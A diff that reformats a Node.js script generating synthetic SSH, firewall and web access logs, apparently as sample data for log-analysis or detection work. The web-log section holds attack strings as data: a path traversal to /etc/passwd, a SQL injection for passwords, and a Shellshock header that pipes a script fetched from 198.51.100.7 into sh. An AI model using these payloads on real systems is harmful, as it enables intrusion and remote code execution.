@@ -13,12 +13,19 @@ import { fileURLToPath } from 'node:url';
 import { parseArgs } from 'node:util';
 
 const root = join(dirname(fileURLToPath(import.meta.url)), '..');
-const { values } = parseArgs({ options: { out: { type: 'string', default: join(root, 'examples/sample-logs') }, seed: { type: 'string', default: '42' }, follow: { type: 'boolean', default: false }, 'interval-ms': { type: 'string', default: '3000' } } });
+const { values } = parseArgs({
+  options: {
+    out: { type: 'string', default: join(root, 'examples/sample-logs') },
+    seed: { type: 'string', default: '42' },
+    follow: { type: 'boolean', default: false },
+    'interval-ms': { type: 'string', default: '3000' },
+  },
+});
 const out = resolve(values.out);
 mkdirSync(out, { recursive: true });
 
 let state = Number(values.seed) >>> 0 || 42;
-const rand = () => ((state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32);
+const rand = () => (state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32;
 const pick = (a) => a[Math.floor(rand() * a.length)];
 const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
 const stamp = (d) => `${MON[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
@@ -50,7 +57,12 @@ function bruteForce(t0, ip, n, success) {
     t = new Date(t.getTime() + 1000 + Math.floor(rand() * 3000));
     const p = pid++;
     const port = 30000 + Math.floor(rand() * 30000);
-    lines.push([t, rand() < 0.7 ? `${stamp(t)} ${HOST} sshd[${p}]: Failed password for root from ${ip} port ${port} ssh2` : `${stamp(t)} ${HOST} sshd[${p}]: Failed password for invalid user admin from ${ip} port ${port} ssh2`]);
+    lines.push([
+      t,
+      rand() < 0.7
+        ? `${stamp(t)} ${HOST} sshd[${p}]: Failed password for root from ${ip} port ${port} ssh2`
+        : `${stamp(t)} ${HOST} sshd[${p}]: Failed password for invalid user admin from ${ip} port ${port} ssh2`,
+    ]);
   }
   if (success) {
     t = new Date(t.getTime() + 2000);
@@ -72,7 +84,10 @@ function scanThenExploit(t0, ip) {
   let t = t0;
   for (let i = 0; i < 8; i++) {
     t = new Date(t.getTime() + 300);
-    lines.push([t, `${stamp(t)} ${HOST} kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${ip} DST=203.0.113.10 PROTO=TCP SPT=${40000 + i} DPT=${[21, 22, 23, 25, 80, 443, 3306, 8080][i]} SYN`]);
+    lines.push([
+      t,
+      `${stamp(t)} ${HOST} kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${ip} DST=203.0.113.10 PROTO=TCP SPT=${40000 + i} DPT=${[21, 22, 23, 25, 80, 443, 3306, 8080][i]} SYN`,
+    ]);
   }
   t = new Date(t.getTime() + 1000);
   lines.push([t, `${stamp(t)} ${HOST} sshd[${pid++}]: Did not receive identification string from ${ip} port ${40000 + Math.floor(rand() * 1000)}`]);
@@ -87,10 +102,19 @@ function webAccess(t0, ip) {
     return `${d[1]}/${d[2]}/${d[3]}:${d[4]} +0000`;
   };
   let t = t0;
-  const reqs = ['GET /index.html HTTP/1.1" 200 5120', 'GET /../../../../etc/passwd HTTP/1.1" 400 0', "GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\" 500 0", 'GET /cgi-bin/status HTTP/1.1" 200 12', 'POST /wp-login.php HTTP/1.1" 200 1024'];
+  const reqs = [
+    'GET /index.html HTTP/1.1" 200 5120',
+    'GET /../../../../etc/passwd HTTP/1.1" 400 0',
+    'GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 500 0',
+    'GET /cgi-bin/status HTTP/1.1" 200 12',
+    'POST /wp-login.php HTTP/1.1" 200 1024',
+  ];
   return reqs.map((r) => {
     t = new Date(t.getTime() + 1500);
-    return [t, `${ip} - - [${fmt(t)}] "${r} "-" "${r.includes('cgi-bin') ? '() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x.sh | sh\\"' : 'Mozilla/5.0 (X11; Linux x86_64)'}"`];
+    return [
+      t,
+      `${ip} - - [${fmt(t)}] "${r} "-" "${r.includes('cgi-bin') ? '() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x.sh | sh\\"' : 'Mozilla/5.0 (X11; Linux x86_64)'}"`,
+    ];
   });
 }
 
@@ -151,7 +175,13 @@ if (values.follow) {
   let n = 0;
   const tick = () => {
     const now = new Date();
-    const lines = n % 5 === 4 ? bruteForce(now, `203.0.113.${100 + (n % 50)}`, 8, n % 10 === 9) : [[now, normal(now)], [now, normal(now)]];
+    const lines =
+      n % 5 === 4
+        ? bruteForce(now, `203.0.113.${100 + (n % 50)}`, 8, n % 10 === 9)
+        : [
+            [now, normal(now)],
+            [now, normal(now)],
+          ];
     appendFileSync(join(out, 'auth.log'), lines.map(([, l]) => l).join('\n') + '\n');
     n++;
   };
